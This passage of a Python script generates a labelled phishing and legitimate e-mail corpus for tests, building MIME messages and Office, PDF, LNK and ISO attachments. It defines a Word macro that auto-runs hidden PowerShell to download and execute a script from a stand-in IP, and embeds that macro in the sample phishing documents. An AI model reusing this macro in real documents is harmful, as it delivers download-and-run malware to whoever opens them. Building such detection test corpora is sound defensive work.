#!/usr/bin/env python3
"""Generate the labelled phishing / ham e-mail corpus under tests/corpus/.

    python3 tests/corpus/make_corpus.py            # (re)generate phish/, ham/, README.md and check them
    python3 tests/corpus/make_corpus.py --check    # only check the committed files

The output is deterministic: fixed dates, fixed Message-IDs, fixed MIME boundaries,
fixed ZIP timestamps and a seeded (not random) AES salt for the encrypted ZIP.

Generator-only dependencies (the generated .eml files need none of them to be read):
    pip install qrcode pillow pyzipper
"""
from __future__ import annotations

import base64
import datetime as _dt
import email
import email.policy
import email.utils
import hashlib
import html as _html
import io
import os
import re
import struct
import sys
import zipfile
import zlib
from email import quoprimime

HERE = os.path.dirname(os.path.abspath(__file__))
CRLF = "\r\n"
MAX_BYTES = 200 * 1024

# --------------------------------------------------------------------------------------
# The test world
# --------------------------------------------------------------------------------------
ALICE = ("Alice Martin", "alice@northwind.com")
BOB = ("Bob Chen", "bob@northwind.com")
CAROL = ("Carol D\u00edaz", "carol@northwind.com")
DAVE = ("Dave Okafor", "dave@northwind.com")
USERS = [ALICE, BOB, CAROL, DAVE]

SIGNALS = {
    1: "lookalike domain",
    2: "display-name impersonation",
    3: "Reply-To diversion",
    4: "deceptive link",
    5: "dangerous attachment",
    6: "header anomaly",
    7: "authentication failure / brand spoof",
    8: "QR-code phishing",
    9: "forged trust headers",
    10: "first contact from correspondent lookalike",
}


def idna(domain: str) -> str:
    """Unicode domain -> ASCII (punycode) form, label by label."""
    return ".".join(
        lab if lab.isascii() else lab.encode("idna").decode("ascii") for lab in domain.split(".")
    )


# --------------------------------------------------------------------------------------
# Header helpers
# --------------------------------------------------------------------------------------
def ew(s: str) -> str:
    """RFC 2047 'B' encoded words (UTF-8), each at most 75 characters."""
    if s.isascii():
        return s
    words, chunk = [], b""
    for ch in s:
        b = ch.encode("utf-8")
        if len(chunk) + len(b) > 45:
            words.append(chunk)
            chunk = b""
        chunk += b
    if chunk:
        words.append(chunk)
    return " ".join("=?utf-8?b?" + base64.b64encode(w).decode() + "?=" for w in words)


def ewq(s: str, charset: str = "utf-8", force: bool = False) -> str:
    """RFC 2047 'Q' encoded words (force: encode even a pure-ASCII string)."""
    if s.isascii() and not force:
        return s
    out, cur = [], ""
    prefix = "=?%s?q?" % charset
    for ch in s:
        enc = ""
        for byte in ch.encode(charset):
            c = chr(byte)
            if c.isalnum() and byte < 128:
                enc += c
            elif c == " ":
                enc += "_"
            elif c in "!*+-/":
                enc += c
            else:
                enc += "=%02X" % byte
        if len(prefix) + len(cur) + len(enc) + 2 > 75:
            out.append(prefix + cur + "?=")
            cur = ""
        cur += enc
    if cur:
        out.append(prefix + cur + "?=")
    return " ".join(out)


_SPECIALS = set('()<>[]:;@\\,."')


def addr(name, address: str) -> str:
    if not name:
        return address
    if not name.isascii():
        return "%s <%s>" % (ew(name), address)
    if any(c in _SPECIALS for c in name):
        return '"%s" <%s>' % (name.replace("\\", "\\\\").replace('"', '\\"'), address)
    return "%s <%s>" % (name, address)


def addrs(*people) -> str:
    return ", ".join(addr(n, a) for n, a in people)


def fold(name: str, value: str) -> str:
    line = "%s: %s" % (name, value) if value != "" else "%s:" % name
    if len(line) <= 78 or name.lower().startswith("x-corpus-"):
        return line + CRLF
    tokens = line.split(" ")
    out, cur = [], tokens[0] + " " + tokens[1]  # never fold right after the field name
    for tok in tokens[2:]:
        if len(cur) + 1 + len(tok) > 76 and cur.strip():
            out.append(cur)
            cur = " " + tok
        else:
            cur += " " + tok
    out.append(cur)
    return CRLF.join(out) + CRLF


# --------------------------------------------------------------------------------------
# MIME entity builders.  An entity is (headers: list[(name, value)], body: str with CRLF).
# --------------------------------------------------------------------------------------
class Boundaries:
    def __init__(self):
        self.prefix = "x"
        self.n = 0

    def reset(self, key: str):
        self.prefix = hashlib.sha1(key.encode()).hexdigest()[:12]
        self.n = 0

    def next(self) -> str:
        self.n += 1
        return "----=_Part_%d_%s.%d" % (self.n, self.prefix, 1741000000 + self.n)


BOUNDARY = Boundaries()


def crlf(text: str) -> str:
    return text.replace("\r\n", "\n").replace("\r", "\n").replace("\n", CRLF)


def b64body(data: bytes) -> str:
    enc = base64.b64encode(data).decode("ascii")
    return "".join(enc[i:i + 76] + CRLF for i in range(0, len(enc), 76))


def qpbody(data: bytes) -> str:
    text = data.decode("latin-1").replace("\r\n", "\n")
    enc = quoprimime.body_encode(text, maxlinelen=76, eol=CRLF)
    if not enc.endswith(CRLF):
        enc += CRLF
    return enc


def text(body: str, subtype: str = "plain", charset: str = "utf-8", cte: str | None = None,
         extra_params: str = "", headers=()):
    raw = body.replace("\r\n", "\n").encode(charset)
    if cte is None:
        if all(b < 128 for b in raw) and max(len(l) for l in raw.split(b"\n")) <= 900 and subtype == "plain":
            cte = "7bit"
        else:
            cte = "quoted-printable"
    if cte == "7bit":
        payload = crlf(raw.decode("ascii"))
        if not payload.endswith(CRLF):
            payload += CRLF
    elif cte == "quoted-printable":
        payload = qpbody(raw)
    elif cte == "base64":
        payload = b64body(raw.replace(b"\n", b"\r\n"))
    else:
        raise ValueError(cte)
    h = [("Content-Type", 'text/%s; charset="%s"%s' % (subtype, charset, extra_params)),
         ("Content-Transfer-Encoding", cte)]
    h.extend(headers)
    return (h, payload)


def html(body: str, **kw):
    return text(body, subtype="html", **kw)


def attachment(data: bytes, ctype: str, filename: str | None = None, inline: bool = False,
               cid: str | None = None, ct_params: str | None = None, disp_params: str | None = None,
               description: str | None = None):
    """Base64 attachment.  ct_params / disp_params override the name=/filename= parameters
    verbatim (used for RFC 2231 / RFC 2047 encoded names)."""
    if ct_params is None:
        ct_params = '; name="%s"' % filename if filename else ""
    if disp_params is None:
        disp_params = '; filename="%s"' % filename if filename else ""
    h = [("Content-Type", ctype + ct_params)]
    if description:
        h.append(("Content-Description", description))
    h.append(("Content-Disposition", ("inline" if inline else "attachment") + disp_params))
    if cid:
        h.append(("Content-ID", "<%s>" % cid))
    h.append(("Content-Transfer-Encoding", "base64"))
    return (h, b64body(data))


def multipart(subtype: str, *parts, params: str = "", preamble: bool = True):
    b = BOUNDARY.next()
    body = ""
    if preamble:
        body += "This is a multi-part message in MIME format." + CRLF + CRLF
    for ph, pb in parts:
        body += "--" + b + CRLF
        body += "".join(fold(n, v) for n, v in ph) + CRLF + pb
        if not pb.endswith(CRLF):
            body += CRLF
    body += "--" + b + "--" + CRLF
    return ([("Content-Type", 'multipart/%s; boundary="%s"%s' % (subtype, b, params))], body)


def alt(plain: str, htm: str, **kw):
    return multipart("alternative", text(plain, **kw), html(htm, **kw))


# --------------------------------------------------------------------------------------
# Message registry
# --------------------------------------------------------------------------------------
MESSAGES: list[dict] = []
_COUNTERS = {"phish": 0, "ham": 0}
DEFAULT = object()
TZS = ["+0000", "-0500", "+0100", "-0800", "+0200", "+0000", "-0400", "+0530"]


def mkdate(label: str, n: int, tz: str | None = None) -> str:
    base = _dt.datetime(2025, 3, 3, 7, 12, 5) if label == "phish" else _dt.datetime(2025, 3, 3, 6, 41, 37)
    t = base + _dt.timedelta(hours=5 * n, minutes=13 * n, seconds=29 * n)
    tz = tz or TZS[n % len(TZS)]
    sign = 1 if tz[0] == "+" else -1
    off = _dt.timedelta(hours=int(tz[1:3]), minutes=int(tz[3:5])) * sign
    return email.utils.format_datetime(t.replace(tzinfo=_dt.timezone(off)))


def domain_of(address: str) -> str:
    return address.rsplit("@", 1)[-1].strip(">").lower()


def add(label, slug, note, auth, *, frm, to, subject, entity, cc=None, reply_to=None,
        sender=None, mail_from=DEFAULT, client=None, date=DEFAULT, msgid=DEFAULT,
        extra=(), before=(), signals=(), mailer=None, received=True, eight_bit=False):
    """Register one message.

    frm / to / cc / reply_to: already-formatted header values (use addr()/addrs()).
    extra: headers appended after the standard ones; before: headers placed before From
    (e.g. forged trust headers, Received)."""
    assert label in _COUNTERS
    assert "\n" not in note and note.isascii(), note
    if not subject.isascii():
        subject = ew(subject)
    _COUNTERS[label] += 1
    n = _COUNTERS[label]
    fname = "%03d-%s.eml" % (n, slug)
    BOUNDARY.reset(label + slug)
    m = re.search(r"<([^<>]+)>\s*$", frm) or re.search(r"([^\s<>,]+@[^\s<>,]+)", frm)
    from_addr = m.group(1)
    from_domain = domain_of(from_addr)
    hdr = [("X-Corpus-Note", note), ("X-Corpus-Auth", auth)]
    if mail_from is not DEFAULT:
        hdr.append(("X-Corpus-Mail-From", mail_from))
    hdr.append(("X-Corpus-Client", client or "203.0.113.%d" % (10 + n)))
    if date is DEFAULT:
        date = mkdate(label, n)
    if received and date:
        hexid = hashlib.sha1(fname.encode()).hexdigest()
        ascii_dom = idna(from_domain)
        if label == "ham" and mail_from not in (DEFAULT, "") and "@" in mail_from:
            ascii_dom = domain_of(mail_from)  # bulk mail leaves through its ESP
        hdr.append(("Received", "by smtp-out-%d.%s with ESMTPSA id %s for <%s>; %s"
                    % (n % 7 + 1, ascii_dom, hexid[:14],
                       re.search(r"[\w.+-]+@northwind\.com", to + " " + (cc or "")).group(0), date)))
    hdr.extend(before)
    hdr.append(("From", frm))
    if sender:
        hdr.append(("Sender", sender))
    hdr.append(("To", to))
    if cc:
        hdr.append(("Cc", cc))
    if reply_to:
        hdr.append(("Reply-To", reply_to))
    hdr.append(("Subject", subject))
    if date:
        hdr.append(("Date", date))
    if msgid is DEFAULT:
        dom = idna(from_domain)
        msgid = "<%s.%s@%s>" % (hashlib.sha1((label + slug).encode()).hexdigest()[:20].upper(),
                                 "%d" % (1741000000 + 7919 * n), dom)
    if msgid:
        hdr.append(("Message-ID", msgid))
    hdr.extend(extra)
    if mailer:
        hdr.append(("X-Mailer", mailer))
    hdr.append(("MIME-Version", "1.0"))
    eh, body = entity
    hdr.extend(eh)
    raw = "".join(fold(k, v) for k, v in hdr) + CRLF + body
    data = raw.encode("utf-8")
    MESSAGES.append(dict(label=label, file=fname, note=note, auth=auth, signals=tuple(signals),
                         data=data, eight_bit=eight_bit))
    return fname


# --------------------------------------------------------------------------------------
# HTML templates
# --------------------------------------------------------------------------------------
def esc(s: str) -> str:
    return _html.escape(s, quote=True)


def html_page(inner: str, title: str = "", preheader: str = "", bg: str = "#f4f5f7",
              font: str = "Helvetica,Arial,sans-serif") -> str:
    pre = ('<div style="display:none;max-height:0;overflow:hidden;mso-hide:all;">%s</div>\n'
           % esc(preheader)) if preheader else ""
    return f"""<!DOCTYPE html>
<html lang="en">
<head>
<meta http-equiv="Content-Type" content="text/html; charset=utf-8">
<meta name="viewport" content="width=device-width, initial-scale=1.0">
<title>{esc(title)}</title>
<style type="text/css">
  body {{ margin:0; padding:0; -webkit-text-size-adjust:100%; }}
  table {{ border-collapse:collapse; mso-table-lspace:0pt; mso-table-rspace:0pt; }}
  img {{ border:0; outline:none; text-decoration:none; }}
  a {{ color:#0b63ce; }}
  @media only screen and (max-width:620px) {{ .container {{ width:100% !important; }} }}
</style>
</head>
<body style="margin:0;padding:0;background-color:{bg};font-family:{font};">
{pre}<table role="presentation" width="100%" cellpadding="0" cellspacing="0" border="0" style="background-color:{bg};">
<tr><td align="center" style="padding:24px 12px;">
<table role="presentation" class="container" width="600" cellpadding="0" cellspacing="0" border="0" style="background-color:#ffffff;border:1px solid #e3e5e8;">
{inner}
</table>
</td></tr>
</table>
</body>
</html>
"""


def card(brand: str, color: str, heading: str, paras, button=None, footer: str = "",
         pixel: str | None = None, logo: str | None = None, after_button=(), raw_html: str = "",
         title: str | None = None, preheader: str = "") -> str:
    """A typical transactional e-mail card.  paras: plain strings (escaped) or ("raw", html)."""
    def para(p):
        if isinstance(p, tuple):
            return p[1]
        return ('<p style="margin:0 0 14px 0;font-size:15px;line-height:22px;color:#333333;">%s</p>'
                % esc(p).replace("\n", "<br>"))
    logo_html = ('<img src="%s" alt="%s" width="120" style="display:block;">' % (esc(logo), esc(brand))
                 if logo else
                 '<span style="font-size:22px;font-weight:bold;color:#ffffff;">%s</span>' % esc(brand))
    rows = [f'<tr><td style="background-color:{color};padding:18px 28px;">{logo_html}</td></tr>',
            f'<tr><td style="padding:28px 28px 8px 28px;"><h1 style="margin:0 0 18px 0;font-size:21px;'
            f'line-height:28px;color:#1a1a1a;">{esc(heading)}</h1>'
            + "\n".join(para(p) for p in paras) + "</td></tr>"]
    if button:
        btext, bhref = button
        rows.append(
            f'<tr><td align="left" style="padding:8px 28px 24px 28px;"><table role="presentation" '
            f'cellpadding="0" cellspacing="0" border="0"><tr><td class="btn" style="background-color:{color};'
            f'border-radius:4px;"><a href="{esc(bhref)}" target="_blank" style="display:inline-block;'
            f'padding:12px 26px;font-size:15px;font-weight:bold;color:#ffffff;text-decoration:none;">'
            f'{esc(btext)}</a></td></tr></table></td></tr>')
    if after_button:
        rows.append('<tr><td style="padding:0 28px 16px 28px;">' + "\n".join(para(p) for p in after_button)
                    + "</td></tr>")
    if raw_html:
        rows.append(raw_html)
    if footer:
        rows.append('<tr><td style="padding:18px 28px;background-color:#f7f7f9;font-size:12px;line-height:18px;'
                    'color:#777777;">%s</td></tr>' % footer)
    if pixel:
        rows.append('<tr><td><img src="%s" width="1" height="1" alt="" style="display:block;width:1px;'
                    'height:1px;border:0;"></td></tr>' % esc(pixel))
    return html_page("\n".join(rows), title=title or heading, preheader=preheader)


def card_text(heading: str, paras, button=None, footer_text: str = "", after_button=()) -> str:
    out = [heading, ""]
    for p in paras:
        if isinstance(p, tuple):
            p = _html.unescape(re.sub(r"<[^>]+>", "", re.sub(r"<br\s*/?>", "\n", p[1])))
        out += [p, ""]
    if button:
        out += ["%s: %s" % button, ""]
    for p in after_button:
        if isinstance(p, tuple):
            p = _html.unescape(re.sub(r"<[^>]+>", "", p[1]))
        out += [p, ""]
    if footer_text:
        out += ["--", footer_text]
    return "\n".join(out) + "\n"


def card_alt(brand, color, heading, paras, button=None, footer="", footer_text="", pixel=None,
             text_button=True, **kw):
    """multipart/alternative with a text version and the card.  text_button=False leaves the
    link out of the text part (the text shows only the button label)."""
    h = card(brand, color, heading, paras, button=button, footer=footer, pixel=pixel, **kw)
    t = card_text(heading, paras, button if text_button else None, footer_text or
                  _html.unescape(re.sub(r"<[^>]+>", "", re.sub(r"<br\s*/?>", "\n", footer))),
                  kw.get("after_button", ()))
    if button and not text_button:
        t = t.replace("\n\n--", "\n\n[%s]\n\n--" % button[0], 1)
    return alt(t, h)


# --------------------------------------------------------------------------------------
# Attachment payload builders (all deterministic)
# --------------------------------------------------------------------------------------
ZIP_TIME = (2025, 3, 1, 9, 0, 0)


def make_pdf(lines, title="Document") -> bytes:
    """A minimal but valid one-page PDF 1.4 with correct xref offsets."""
    def pesc(s):
        return s.replace("\\", "\\\\").replace("(", "\\(").replace(")", "\\)")
    content = "BT\n/F1 11 Tf\n14 TL\n56 780 Td\n" + "".join("(%s) Tj T*\n" % pesc(l) for l in lines) + "ET"
    objs = [
        "<< /Type /Catalog /Pages 2 0 R >>",
        "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 4 0 R >> >> "
        "/Contents 5 0 R >>",
        "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>",
        "<< /Length %d >>\nstream\n%s\nendstream" % (len(content.encode("latin-1")), content),
        "<< /Title (%s) /Producer (Northwind corpus generator) /CreationDate (D:20250301090000Z) >>" % pesc(title),
    ]
    out = b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n"
    offsets = []
    for i, o in enumerate(objs, 1):
        offsets.append(len(out))
        out += ("%d 0 obj\n%s\nendobj\n" % (i, o)).encode("latin-1")
    xref = len(out)
    out += ("xref\n0 %d\n0000000000 65535 f \n" % (len(objs) + 1)).encode()
    out += "".join("%010d 00000 n \n" % o for o in offsets).encode()
    out += ("trailer\n<< /Size %d /Root 1 0 R /Info 6 0 R >>\nstartxref\n%d\n%%%%EOF\n"
            % (len(objs) + 1, xref)).encode()
    return out


def make_zip(entries, method=zipfile.ZIP_DEFLATED) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        for name, data in entries:
            zi = zipfile.ZipInfo(name, date_time=ZIP_TIME)
            zi.compress_type = method
            zi.external_attr = 0o644 << 16
            z.writestr(zi, data)
    return buf.getvalue()


W_NS = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
RELS_NS = "http://schemas.openxmlformats.org/package/2006/relationships"
OFFDOC = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument"


def _docx_document(paragraphs) -> bytes:
    ps = "".join('<w:p><w:r><w:t xml:space="preserve">%s</w:t></w:r></w:p>' % esc(p) for p in paragraphs)
    return ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
            '<w:document xmlns:w="%s"><w:body>%s<w:sectPr/></w:body></w:document>' % (W_NS, ps)).encode()


def _core_xml(title, creator):
    return ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
            '<cp:coreProperties xmlns:cp="http://schemas.openxmlformats.org/package/2006/metadata/core-properties" '
            'xmlns:dc="http://purl.org/dc/elements/1.1/" xmlns:dcterms="http://purl.org/dc/terms/" '
            'xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance"><dc:title>%s</dc:title><dc:creator>%s</dc:creator>'
            '<dcterms:created xsi:type="dcterms:W3CDTF">2025-03-01T09:00:00Z</dcterms:created></cp:coreProperties>'
            % (esc(title), esc(creator))).encode()


def make_docx(paragraphs, title="Document", creator="Northwind", macro: bytes | None = None) -> bytes:
    """A real OOXML WordprocessingML package.  macro: a vbaProject.bin to embed (-> .docm style)."""
    main_ct = ("application/vnd.ms-word.document.macroEnabled.main+xml" if macro else
               "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml")
    ct = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
          '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
          '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
          '<Default Extension="xml" ContentType="application/xml"/>'
          + ('<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>' if macro else "")
          + '<Override PartName="/word/document.xml" ContentType="%s"/>' % main_ct
          + '<Override PartName="/docProps/core.xml" '
            'ContentType="application/vnd.openxmlformats-package.core-properties+xml"/></Types>')
    rels = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
            '<Relationships xmlns="%s"><Relationship Id="rId1" Type="%s" Target="word/document.xml"/>'
            '<Relationship Id="rId2" Type="http://schemas.openxmlformats.org/package/2006/relationships/metadata/'
            'core-properties" Target="docProps/core.xml"/></Relationships>' % (RELS_NS, OFFDOC))
    entries = [("[Content_Types].xml", ct.encode()), ("_rels/.rels", rels.encode()),
               ("word/document.xml", _docx_document(paragraphs)), ("docProps/core.xml", _core_xml(title, creator))]
    if macro:
        drels = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
                 '<Relationships xmlns="%s"><Relationship Id="rId9" '
                 'Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" '
                 'Target="vbaProject.bin"/></Relationships>' % RELS_NS)
        entries += [("word/_rels/document.xml.rels", drels.encode()), ("word/vbaProject.bin", macro)]
    return make_zip(entries)


def make_xlsx(rows, sheet="Sheet1", creator="Northwind") -> bytes:
    """A real SpreadsheetML package with inline strings / numbers."""
    def cell(ref, v):
        if isinstance(v, (int, float)):
            return '<c r="%s"><v>%s</v></c>' % (ref, v)
        return '<c r="%s" t="inlineStr"><is><t>%s</t></is></c>' % (ref, esc(str(v)))
    xml_rows = []
    for i, r in enumerate(rows, 1):
        xml_rows.append('<row r="%d">%s</row>' % (i, "".join(cell("%s%d" % (chr(65 + j), i), v)
                                                             for j, v in enumerate(r))))
    sheet_xml = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
                 '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>%s'
                 '</sheetData></worksheet>' % "".join(xml_rows))
    wb = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
          '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
          'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
          '<sheets><sheet name="%s" sheetId="1" r:id="rId1"/></sheets></workbook>' % esc(sheet))
    wbrels = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
              '<Relationships xmlns="%s"><Relationship Id="rId1" '
              'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" '
              'Target="worksheets/sheet1.xml"/></Relationships>' % RELS_NS)
    ct = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
          '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
          '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
          '<Default Extension="xml" ContentType="application/xml"/>'
          '<Override PartName="/xl/workbook.xml" '
          'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
          '<Override PartName="/xl/worksheets/sheet1.xml" '
          'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>'
          '<Override PartName="/docProps/core.xml" '
          'ContentType="application/vnd.openxmlformats-package.core-properties+xml"/></Types>')
    rels = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
            '<Relationships xmlns="%s"><Relationship Id="rId1" Type="%s" Target="xl/workbook.xml"/>'
            '<Relationship Id="rId2" Type="http://schemas.openxmlformats.org/package/2006/relationships/metadata/'
            'core-properties" Target="docProps/core.xml"/></Relationships>' % (RELS_NS, OFFDOC))
    return make_zip([("[Content_Types].xml", ct.encode()), ("_rels/.rels", rels.encode()),
                     ("xl/workbook.xml", wb.encode()), ("xl/_rels/workbook.xml.rels", wbrels.encode()),
                     ("xl/worksheets/sheet1.xml", sheet_xml.encode()),
                     ("docProps/core.xml", _core_xml(sheet, creator))])


def make_cfb(tree: dict) -> bytes:
    """A minimal OLE2 compound file (MS-CFB v3, 512-byte sectors).  tree: nested dict of
    storage name -> dict | stream bytes.  Every stream is padded to 4096 bytes so that it
    lives in the regular FAT (no mini stream is needed)."""
    ENDOFCHAIN, FREESECT, FATSECT, NOSTREAM = 0xFFFFFFFE, 0xFFFFFFFF, 0xFFFFFFFD, 0xFFFFFFFF
    entries = []  # dicts: name, type, data, children(list of idx)

    def walk(name, node, typ):
        idx = len(entries)
        e = dict(name=name, type=typ, data=b"", left=NOSTREAM, right=NOSTREAM, child=NOSTREAM)
        entries.append(e)
        if isinstance(node, dict):
            kids = [walk(k, v, 1 if isinstance(v, dict) else 2) for k, v in node.items()]
            kids.sort(key=lambda i: (len(entries[i]["name"]), entries[i]["name"].upper()))
            if kids:
                e["child"] = kids[0]
                for a, b in zip(kids, kids[1:]):
                    entries[a]["right"] = b
        else:
            data = bytes(node)
            e["data"] = data + b"\0" * (max(4096, (len(data) + 511) // 512 * 512) - len(data))
        return idx

    walk("Root Entry", tree, 5)
    n_dir_sectors = (len(entries) + 3) // 4
    sector = 1 + n_dir_sectors  # sector 0 = FAT
    fat = [FATSECT]
    for i in range(n_dir_sectors):
        fat.append(1 + i + 1 if i + 1 < n_dir_sectors else ENDOFCHAIN)
    data_sectors = b""
    for e in entries:
        if e["type"] != 2:
            e["start"], e["size"] = (ENDOFCHAIN if e["type"] == 5 else 0), 0
            continue
        count = len(e["data"]) // 512
        e["start"], e["size"] = sector, len(e["data"])
        for i in range(count):
            fat.append(sector + i + 1 if i + 1 < count else ENDOFCHAIN)
        sector += count
        data_sectors += e["data"]
    assert len(fat) <= 128, "compound file too large for one FAT sector"
    fat += [FREESECT] * (128 - len(fat))
    fat_sector = struct.pack("<128I", *fat)
    dir_bytes = b""
    for e in entries:
        nm = e["name"].encode("utf-16-le") + b"\0\0"
        dir_bytes += struct.pack("<64sHBBIII16sIQQIQ", nm, len(nm), e["type"], 1, e["left"], e["right"],
                                 e["child"], b"\0" * 16, 0, 0, 0, e["start"], e["size"])
    while len(dir_bytes) % 512:
        dir_bytes += struct.pack("<64sHBBIII16sIQQIQ", b"", 0, 0, 0, NOSTREAM, NOSTREAM, NOSTREAM,
                                 b"\0" * 16, 0, 0, 0, 0, 0)
    header = struct.pack("<8s16sHHHHH6sIIIIIIIII", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", b"\0" * 16,
                         0x3E, 3, 0xFFFE, 9, 6, b"\0" * 6, 0, 1, 1, 0, 0x1000, ENDOFCHAIN, 0,
                         ENDOFCHAIN, 0)
    header += struct.pack("<109I", 0, *([FREESECT] * 108))
    assert len(header) == 512
    return header + fat_sector + dir_bytes + data_sectors


VBA_MACRO = (b'Attribute VB_Name = "ThisDocument"\r\n'
             b'Sub AutoOpen()\r\n'
             b'    Dim s As String\r\n'
             b'    s = "powershell -nop -w hidden -c ""IEX (New-Object Net.WebClient).DownloadString('
             b"'http://203.0.113.66/p.ps1')\"\"\"\r\n"
             b'    CreateObject("WScript.Shell").Run s, 0\r\n'
             b'End Sub\r\n'
             b'Sub Document_Open()\r\n    AutoOpen\r\nEnd Sub\r\n')


def make_vba_project() -> bytes:
    """vbaProject.bin: a compound file with VBA/_VBA_PROJECT, VBA/dir, VBA/ThisDocument, PROJECT."""
    return make_cfb({
        "VBA": {"_VBA_PROJECT": b"\xcc\x61\xff\xff\x00\x00\x00", "dir": b"\x01\x16\x00" + b"ThisDocument",
                "ThisDocument": VBA_MACRO},
        "PROJECT": b'ID="{5C3D5E61-0000-4B0F-9A1C-000000000001}"\r\nDocument=ThisDocument/&H00000000\r\n'
                   b'Name="Project"\r\n',
    })


def make_ole_doc() -> bytes:
    """Legacy Word 97-2003 .doc (OLE2) carrying a Macros/VBA storage with _VBA_PROJECT."""
    return make_cfb({
        "WordDocument": b"\xec\xa5\xc1\x00" + b"\0" * 60 + b"Payment schedule attached. Enable content to view.",
        "1Table": b"\0" * 64,
        "\x05SummaryInformation": b"\xfe\xff\x00\x00",
        "Macros": {
            "VBA": {"_VBA_PROJECT": b"\xcc\x61\xff\xff\x00\x00\x00", "dir": b"\x01\x16\x00ThisDocument",
                    "ThisDocument": VBA_MACRO},
            "PROJECT": b'Document=ThisDocument/&H00000000\r\nName="Project"\r\n',
        },
    })


def make_exe(tag: str = "payload") -> bytes:
    """A fake PE image: DOS header (MZ), DOS stub, PE signature and padding.  Not runnable."""
    dos = bytearray(64)
    dos[0:2] = b"MZ"
    struct.pack_into("<H", dos, 2, 0x90)
    struct.pack_into("<H", dos, 4, 3)
    struct.pack_into("<H", dos, 8, 4)
    struct.pack_into("<H", dos, 0x18, 0x40)
    struct.pack_into("<I", dos, 0x3C, 0x80)
    stub = b"\x0e\x1f\xba\x0e\x00\xb4\x09\xcd\x21\xb8\x01\x4c\xcd\x21This program cannot be run in DOS mode.\r\r\n$"
    body = bytes(dos) + stub
    body += b"\0" * (0x80 - len(body))
    pe = b"PE\0\0" + struct.pack("<HHIIIHH", 0x14C, 1, 0x67C2D000, 0, 0, 0xE0, 0x0102)
    body += pe + b"\x0b\x01" + b"\0" * (0xE0 - 2) + b".text\0\0\0" + b"\0" * 32
    body += ("CORPUS-FAKE-PE:%s" % tag).encode()
    return body + b"\0" * (2048 - len(body))


def make_lnk(target: str, args: str, name: str, icon: str) -> bytes:
    """A Windows shell link (MS-SHLLINK) with name, relative path, arguments and icon strings."""
    flags = 0x04 | 0x08 | 0x20 | 0x40 | 0x80  # HasName|HasRelativePath|HasArguments|HasIconLocation|IsUnicode
    clsid = bytes.fromhex("0114020000000000c000000000000046")
    hdr = struct.pack("<I16sII", 0x4C, clsid, flags, 0x20) + b"\0" * 24 + struct.pack("<IiIHHII", 0, 0, 7, 0, 0, 0, 0)
    assert len(hdr) == 0x4C

    def sd(s):
        return struct.pack("<H", len(s)) + s.encode("utf-16-le")
    return hdr + sd(name) + sd(target) + sd(args) + sd(icon) + b"\0\0\0\0"


def make_iso(volume_id: str, filename: str, data: bytes) -> bytes:
    """A minimal valid ISO 9660 image holding one file in its root directory."""
    S = 2048

    def both32(v):
        return struct.pack("<I", v) + struct.pack(">I", v)

    def both16(v):
        return struct.pack("<H", v) + struct.pack(">H", v)
    rec_date = bytes([125, 3, 1, 9, 0, 0, 0])

    def dirrec(ident: bytes, extent: int, size: int, flags: int) -> bytes:
        ln = 33 + len(ident) + (1 if len(ident) % 2 == 0 else 0)
        r = (bytes([ln, 0]) + both32(extent) + both32(size) + rec_date + bytes([flags, 0, 0])
             + both16(1) + bytes([len(ident)]) + ident)
        return r + b"\0" * (ln - len(r))
    file_sectors = (len(data) + S - 1) // S
    total = 21 + file_sectors
    root = dirrec(b"\0", 20, S, 2)
    pvd = bytearray(S)
    pvd[0:7] = b"\x01CD001\x01"
    pvd[8:40] = b"WIN32".ljust(32)
    pvd[40:72] = volume_id.encode().ljust(32)
    pvd[80:88] = both32(total)
    pvd[120:124] = both16(1)
    pvd[124:128] = both16(1)
    pvd[128:132] = both16(S)
    pvd[132:140] = both32(10)
    pvd[140:144] = struct.pack("<I", 18)
    pvd[148:152] = struct.pack(">I", 19)
    pvd[156:190] = root
    for a, b in ((190, 318), (318, 446), (446, 574), (574, 702), (702, 739), (739, 776), (776, 813)):
        pvd[a:b] = b" " * (b - a)
    stamp = b"2025030109000000\x00"
    pvd[813:830] = stamp
    pvd[830:847] = stamp
    pvd[847:864] = b"0000000000000000\x00"
    pvd[864:881] = b"0000000000000000\x00"
    pvd[881] = 1
    term = bytearray(S)
    term[0:7] = b"\xffCD001\x01"
    lpt = bytes([1, 0]) + struct.pack("<I", 20) + struct.pack("<H", 1) + b"\0\0"
    mpt = bytes([1, 0]) + struct.pack(">I", 20) + struct.pack(">H", 1) + b"\0\0"
